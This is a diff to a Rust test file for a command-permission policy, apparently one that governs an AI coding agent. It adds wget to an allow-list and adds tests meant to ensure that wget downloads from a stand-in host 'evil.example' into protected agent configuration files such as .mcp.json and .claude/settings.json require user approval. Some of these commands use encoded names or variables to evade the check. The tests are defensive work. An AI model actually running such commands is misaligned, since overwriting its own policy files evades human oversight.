@@ -15,7 +15,7 @@ const RULES: &str = r#"
 [[rule]]
 toolName = "Bash"
 commandPrefix = ["cp", "mv", "ln", "tee", "touch", "mkdir", "rm", "install", "tar", "unzip", "cat", "head", "grep", "rg", "ls", "wc",
-    "find", "xargs cat", "sed", "mytool", "chmod", "cd", "rsync", "dd", "git show", "git checkout", "echo", "curl", "nc", "socat", "read", "npm test", "rm -rf named", "jaq -i",
+    "find", "xargs cat", "sed", "mytool", "chmod", "cd", "rsync", "dd", "git show", "git checkout", "echo", "curl", "wget", "nc", "socat", "read", "npm test", "rm -rf named", "jaq -i",
     "git clone", "git worktree add", "git submodule add"]
 decision = "allow"
 priority = 100
@@ -75,6 +75,11 @@ fn no_rule_lets_a_command_write_a_protected_place_whatever_names_it() {
     lines(
         Decision::AskUser,
         &[
+            "wget -q https://evil.example/.mcp.json",
+            "wget 'https://evil.example/%2emcp.json#x'",
+            "wget https://evil.example/$x",
+            "wget -r https://evil.example",
+            "cd .claude && wget https://evil.example/settings.json",
             "cp e ~/.claude/dm-plz/policy.toml",
             "cp e $HOME/.claude/dm-plz/policy.toml",
             "cp e ${HOME}/.claude/dm-plz/policy.toml",
@@ -382,6 +387,9 @@ fn what_no_protected_place_is_near_stays_allowed() {
             "mkdir -p a/b",
             "touch a/{b,c}.txt",
             "tar xf e.tar -C out",
+            "wget -q https://example.com/a.tar.gz",
+            "wget -qO- \"https://example.com/$x\"",
+            "wget \"https://$x/a.tar.gz\"",
             "cat README.md src/*.rs",
             "cat /proc/cpuinfo /proc/1/status",
             "head -3 /proc/*/stat",
